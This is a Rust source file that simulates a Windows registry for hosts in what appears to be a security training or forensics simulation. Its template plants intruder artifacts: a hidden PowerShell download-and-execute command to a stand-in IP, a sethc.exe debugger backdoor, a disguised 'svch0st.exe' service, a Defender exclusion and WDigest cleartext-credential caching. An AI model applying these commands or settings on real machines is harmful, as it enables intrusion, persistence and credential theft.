//! The Windows registry: one shared template of a few dozen well-known keys (autoruns, services,
//! OS version, Defender exclusions...) and the per-host overlay that `reg set/delete/load/unload`
//! write to.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;

use super::fs::Who;

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct RegValue {
    pub name: String,
    pub kind: String,
    pub data: String,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub enum KeyState {
    Created(String),
    Deleted,
}

/// A host's registry changes.
#[derive(Clone, Debug, Default)]
pub struct RegOverlay {
    /// Upper-cased full key → created (with its display path) or deleted.
    pub keys: BTreeMap<String, KeyState>,
    /// (upper-cased key, upper-cased value name) → set or deleted.
    pub values: BTreeMap<(String, String), Option<RegValue>>,
    /// Keys with a hive loaded by `reg load` (upper-cased).
    pub loaded: BTreeSet<String>,
}

impl RegOverlay {
    pub fn is_empty(&self) -> bool {
        self.keys.is_empty() && self.values.is_empty() && self.loaded.is_empty()
    }
}

#[derive(Debug, Default)]
struct KeyData {
    display: String,
    values: Vec<RegValue>,
    children: BTreeSet<String>,
}

/// The registry template shared by every Windows host.
#[derive(Debug, Default)]
pub struct Registry {
    keys: BTreeMap<String, KeyData>,
}

pub const HIVES: [(&str, &str); 5] = [
    ("HKEY_CLASSES_ROOT", "HKCR"),
    ("HKEY_CURRENT_USER", "HKCU"),
    ("HKEY_LOCAL_MACHINE", "HKLM"),
    ("HKEY_USERS", "HKU"),
    ("HKEY_CURRENT_CONFIG", "HKCC"),
];

/// Expands the hive abbreviation and normalises separators: `hklm\software\` →
/// `HKEY_LOCAL_MACHINE\software`. `None` when the root is not a hive.
pub fn normalize(path: &str) -> Option<String> {
    let path = path.trim().trim_matches('\\').replace('/', "\\");
    let (root, rest) = match path.split_once('\\') {
        Some((r, rest)) => (r, Some(rest)),
        None => (path.as_str(), None),
    };
    let root = root.trim_end_matches(':');
    let hive = HIVES
        .iter()
        .find(|(long, short)| root.eq_ignore_ascii_case(long) || root.eq_ignore_ascii_case(short))?
        .0;
    let parts: Vec<&str> = rest
        .unwrap_or("")
        .split('\\')
        .filter(|p| !p.is_empty())
        .collect();
    Some(if parts.is_empty() {
        hive.to_string()
    } else {
        format!("{hive}\\{}", parts.join("\\"))
    })
}

fn upper(s: &str) -> String {
    s.to_uppercase()
}

fn parent(key: &str) -> Option<&str> {
    key.rfind('\\').map(|i| &key[..i])
}

impl Registry {
    fn add(&mut self, path: &str, values: &[(&str, &str, &str)]) {
        let Some(path) = normalize(path) else {
            return;
        };
        let mut cur = String::new();
        for part in path.split('\\') {
            let prev = cur.clone();
            if !cur.is_empty() {
                cur.push('\\');
            }
            cur.push_str(part);
            let up = upper(&cur);
            self.keys.entry(up.clone()).or_insert_with(|| KeyData {
                display: cur.clone(),
                ..Default::default()
            });
            if !prev.is_empty()
                && let Some(p) = self.keys.get_mut(&upper(&prev))
            {
                p.children.insert(up);
            }
        }
        if let Some(k) = self.keys.get_mut(&upper(&path)) {
            k.values.extend(values.iter().map(|(n, t, d)| RegValue {
                name: (*n).into(),
                kind: (*t).into(),
                data: (*d).into(),
            }));
        }
    }

    /// The template every Windows host starts from.
    pub fn windows() -> Registry {
        let mut r = Registry::default();
        for (long, _) in HIVES {
            r.add(long, &[]);
        }
        r.add(r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run", &[
            ("SecurityHealth", "REG_EXPAND_SZ", r"%windir%\system32\SecurityHealthSystray.exe"),
            ("RtkAudUService", "REG_SZ", r#""C:\Windows\System32\DriverStore\FileRepository\realtekservice.inf_amd64\RtkAudUService64.exe" -background"#),
        ]);
        r.add(
            r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce",
            &[],
        );
        r.add(
            r"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Run",
            &[(
                "Adobe ARM",
                "REG_SZ",
                r#""C:\Program Files (x86)\Common Files\Adobe\ARM\1.0\AdobeARM.exe""#,
            )],
        );
        r.add(
            r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System",
            &[
                ("EnableLUA", "REG_DWORD", "0x1"),
                ("ConsentPromptBehaviorAdmin", "REG_DWORD", "0x5"),
            ],
        );
        r.add(
            r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion",
            &[
                ("ProductName", "REG_SZ", "{os} Enterprise"),
                ("CurrentBuild", "REG_SZ", "22631"),
                ("DisplayVersion", "REG_SZ", "23H2"),
                ("EditionID", "REG_SZ", "Enterprise"),
                ("InstallationType", "REG_SZ", "Client"),
                ("RegisteredOwner", "REG_SZ", "{user}"),
                ("RegisteredOrganization", "REG_SZ", "Example Corp"),
                ("SystemRoot", "REG_SZ", r"C:\Windows"),
            ],
        );
        r.add(
            r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon",
            &[
                ("Shell", "REG_SZ", "explorer.exe"),
                ("Userinit", "REG_SZ", r"C:\Windows\system32\userinit.exe,"),
                ("DefaultUserName", "REG_SZ", "{user}"),
                ("DefaultDomainName", "REG_SZ", "{netbios}"),
            ],
        );
        r.add(r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe", &[
            ("Debugger", "REG_SZ", r"C:\Windows\System32\cmd.exe"),
        ]);
        r.add(r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\notepad.exe", &[]);
        r.add(
            r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths",
            &[(r"C:\Windows\Temp", "REG_DWORD", "0x0")],
        );
        r.add(
            r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Processes",
            &[],
        );
        r.add(
            r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender",
            &[("DisableAntiSpyware", "REG_DWORD", "0x0")],
        );
        r.add(
            r"HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging",
            &[("EnableScriptBlockLogging", "REG_DWORD", "0x1")],
        );
        r.add(r"HKLM\SOFTWARE\CrowdStrike", &[]);
        r.add(r"HKLM\SOFTWARE\Google\Chrome", &[]);
        r.add(r"HKLM\SOFTWARE\Microsoft\Office\16.0", &[]);
        r.add(r"HKLM\SYSTEM\CrowdStrike\{9b03c1d9-3138-44ed-9fae-d9f4c034b88d}\{16e0423f-7058-48c9-a204-725362b67639}\Default", &[
            ("AG", "REG_BINARY", "0000000000000000"),
            ("CU", "REG_BINARY", "4C6F6F6B696E6720676F6F6421"),
        ]);
        r.add(
            r"HKLM\SYSTEM\CurrentControlSet\Services\CSAgent",
            &[
                (
                    "ImagePath",
                    "REG_EXPAND_SZ",
                    r"\??\C:\Windows\system32\drivers\CrowdStrike\csagent.sys",
                ),
                ("Start", "REG_DWORD", "0x1"),
                ("Type", "REG_DWORD", "0x2"),
            ],
        );
        r.add(
            r"HKLM\SYSTEM\CurrentControlSet\Services\CSFalconService",
            &[
                (
                    "ImagePath",
                    "REG_EXPAND_SZ",
                    r#""C:\Program Files\CrowdStrike\CSFalconService.exe""#,
                ),
                ("Start", "REG_DWORD", "0x2"),
                ("DisplayName", "REG_SZ", "CrowdStrike Falcon Sensor Service"),
            ],
        );
        r.add(
            r"HKLM\SYSTEM\CurrentControlSet\Services\UpdaterSvc",
            &[
                ("ImagePath", "REG_EXPAND_SZ", r"C:\Windows\Temp\svch0st.exe"),
                ("Start", "REG_DWORD", "0x2"),
                ("DisplayName", "REG_SZ", "Windows Updater Service"),
            ],
        );
        r.add(
            r"HKLM\SYSTEM\CurrentControlSet\Services\Tcpip\Parameters",
            &[
                ("Hostname", "REG_SZ", "{hostname}"),
                ("Domain", "REG_SZ", "{domain}"),
                ("NV Hostname", "REG_SZ", "{hostname}"),
            ],
        );
        r.add(
            r"HKLM\SYSTEM\CurrentControlSet\Control\ComputerName\ComputerName",
            &[("ComputerName", "REG_SZ", "{hostname}")],
        );
        r.add(
            r"HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server",
            &[("fDenyTSConnections", "REG_DWORD", "0x0")],
        );
        r.add(
            r"HKLM\SYSTEM\CurrentControlSet\Control\Lsa",
            &[
                ("RunAsPPL", "REG_DWORD", "0x1"),
                ("LimitBlankPasswordUse", "REG_DWORD", "0x1"),
                (
                    "Security Packages",
                    "REG_MULTI_SZ",
                    r#""kerberos\0msv1_0\0schannel\0wdigest\0tspkg\0pku2u""#,
                ),
            ],
        );
        r.add(
            r"HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest",
            &[("UseLogonCredential", "REG_DWORD", "0x1")],
        );
        r.add(r"HKLM\SAM\SAM", &[]);
        r.add(r"HKLM\SECURITY", &[]);
        r.add(
            r"HKLM\HARDWARE\DESCRIPTION\System\CentralProcessor\0",
            &[(
                "ProcessorNameString",
                "REG_SZ",
                "Intel(R) Core(TM) i7-1185G7 @ 3.00GHz",
            )],
        );
        r.add(r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run", &[
            ("OneDrive", "REG_SZ", r#""C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background"#),
            ("MicrosoftEdgeAutoLaunch", "REG_SZ", r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --no-startup-window"#),
        ]);
        r.add(
            r"HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce",
            &[],
        );
        r.add(
            r"HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU",
            &[
                (
                    "a",
                    "REG_SZ",
                    r"powershell -w hidden -ep bypass -c iex(iwr http://203.0.113.66/s)\1",
                ),
                ("b", "REG_SZ", r"cmd\1"),
                ("MRUList", "REG_SZ", "ab"),
            ],
        );
        r.add(
            r"HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs",
            &[],
        );
        r.add(
            r"HKCU\Environment",
            &[
                ("TEMP", "REG_EXPAND_SZ", r"%USERPROFILE%\AppData\Local\Temp"),
                ("TMP", "REG_EXPAND_SZ", r"%USERPROFILE%\AppData\Local\Temp"),
            ],
        );
        r.add(r"HKCU\Software\Classes\ms-settings\Shell\Open\command", &[]);
        r.add(r"HKU\.DEFAULT\Software", &[]);
        r.add(r"HKU\S-1-5-18\Software", &[]);
        r.add(r"HKU\S-1-5-19", &[]);
        r.add(r"HKU\S-1-5-20", &[]);
        r.add(
            r"HKCR\.exe",
            &[
                ("", "REG_SZ", "exefile"),
                ("Content Type", "REG_SZ", "application/x-msdownload"),
            ],
        );
        r.add(
            r"HKCR\exefile\shell\open\command",
            &[("", "REG_SZ", r#""%1" %*"#)],
        );
        r.add(
            r"HKCR\.ps1",
            &[("", "REG_SZ", "Microsoft.PowerShellScript.1")],
        );
        r.add(r"HKCC\System\CurrentControlSet\Control\Print\Printers", &[]);
        r
    }
}

/// A host's view of the registry.
pub struct RegView<'a> {
    pub tpl: &'a Registry,
    pub overlay: &'a RegOverlay,
    pub who: Who<'a>,
}

impl RegView<'_> {
    /// The key's display path if it exists.
    pub fn key(&self, norm: &str) -> Option<String> {
        let up = upper(norm);
        match self.overlay.keys.get(&up) {
            Some(KeyState::Created(d)) => Some(d.clone()),
            Some(KeyState::Deleted) => None,
            None => self.tpl.keys.get(&up).map(|k| k.display.clone()),
        }
    }

    fn values(&self, up: &str) -> Vec<RegValue> {
        let mut out: Vec<RegValue> = Vec::new();
        if !matches!(self.overlay.keys.get(up), Some(KeyState::Created(_)))
            && let Some(k) = self.tpl.keys.get(up)
        {
            out.extend(k.values.iter().map(|v| RegValue {
                data: self.who.render(&v.data),
                ..v.clone()
            }));
            // The intruder's autorun, on the few hosts it was planted on.
            if self.who.planted().autorun && up == upper(super::planted::RUN_KEY) {
                let (name, kind, data) = super::planted::AUTORUN;
                out.push(RegValue {
                    name: name.into(),
                    kind: kind.into(),
                    data: data.into(),
                });
            }
        }
        let lo = (up.to_string(), String::new());
        for ((k, name), v) in self.overlay.values.range(lo..) {
            if k != up {
                break;
            }
            out.retain(|x| upper(&x.name) != *name);
            if let Some(v) = v {
                out.push(v.clone());
            }
        }
        out
    }

    fn subkeys(&self, up: &str) -> Vec<String> {
        let mut set: BTreeMap<String, String> = BTreeMap::new();
        if let Some(k) = self.tpl.keys.get(up)
            && !matches!(self.overlay.keys.get(up), Some(KeyState::Created(_)))
        {
            for c in &k.children {
                if let Some(d) = self.tpl.keys.get(c) {
                    set.insert(c.clone(), d.display.clone());
                }
            }
        }
        for (k, st) in &self.overlay.keys {
            if parent(k) == Some(up) {
                match st {
                    KeyState::Created(d) => {
                        set.insert(k.clone(), d.clone());
                    }
                    KeyState::Deleted => {
                        set.remove(k);
                    }
                }
            }
        }
        set.into_values().collect()
    }

    /// `reg query` output for a key (optionally one value). Errors are the stderr text.
    pub fn query(&self, path: Option<&str>, value: Option<&str>) -> Result<String, String> {
        const NOT_FOUND: &str =
            "ERROR: The system was unable to find the specified registry key or value.\n";
        let Some(path) = path else {
            let mut s = String::new();
            for (long, _) in HIVES {
                let _ = writeln!(s, "{long}");
            }
            return Ok(s);
        };
        let norm = normalize(path).ok_or_else(|| "ERROR: Invalid key name.\n".to_string())?;
        let display = self.key(&norm).ok_or_else(|| NOT_FOUND.to_string())?;
        let up = upper(&norm);
        let values = self.values(&up);
        let mut s = format!("\n{display}\n");
        let shown: Vec<&RegValue> = match value {
            Some(v) => {
                let want = upper(v);
                let hit: Vec<&RegValue> =
                    values.iter().filter(|x| upper(&x.name) == want).collect();
                if hit.is_empty() {
                    return Err(NOT_FOUND.to_string());
                }
                hit
            }
            None => values.iter().collect(),
        };
        for v in shown {
            let name = if v.name.is_empty() {
                "(Default)"
            } else {
                &v.name
            };
            let _ = writeln!(s, "    {name}    {}    {}", v.kind, v.data);
        }
        if value.is_none() {
            s.push('\n');
            for sk in self.subkeys(&up) {
                let _ = writeln!(s, "{sk}");
            }
        }
        Ok(s)
    }

    /// Every existing key at or below `up` (template and overlay), upper-cased.
    pub fn subtree(&self, up: &str) -> Vec<String> {
        let mut out = vec![up.to_string()];
        let mut i = 0;
        while i < out.len() && out.len() < 10_000 {
            let cur = out[i].clone();
            for d in self.subkeys(&cur) {
                out.push(upper(&d));
            }
            i += 1;
        }
        out
    }
}

/// The keys `reg set` must create for `norm` to exist (missing parents first).
pub fn missing_keys(view: &RegView<'_>, norm: &str) -> Vec<String> {
    let mut cur = String::new();
    let mut to_create = Vec::new();
    for part in norm.split('\\') {
        if !cur.is_empty() {
            cur.push('\\');
        }
        cur.push_str(part);
        if view.key(&cur).is_none() {
            to_create.push(cur.clone());
        }
    }
    to_create
}

/// Marks keys created in the overlay.
pub fn create_keys(overlay: &mut RegOverlay, keys: Vec<String>) {
    for k in keys {
        overlay.keys.insert(upper(&k), KeyState::Created(k));
    }
}

/// Valid value types for `reg set -ValueType=`.
pub const VALUE_TYPES: [&str; 6] = [
    "REG_SZ",
    "REG_EXPAND_SZ",
    "REG_DWORD",
    "REG_QWORD",
    "REG_MULTI_SZ",
    "REG_BINARY",
];
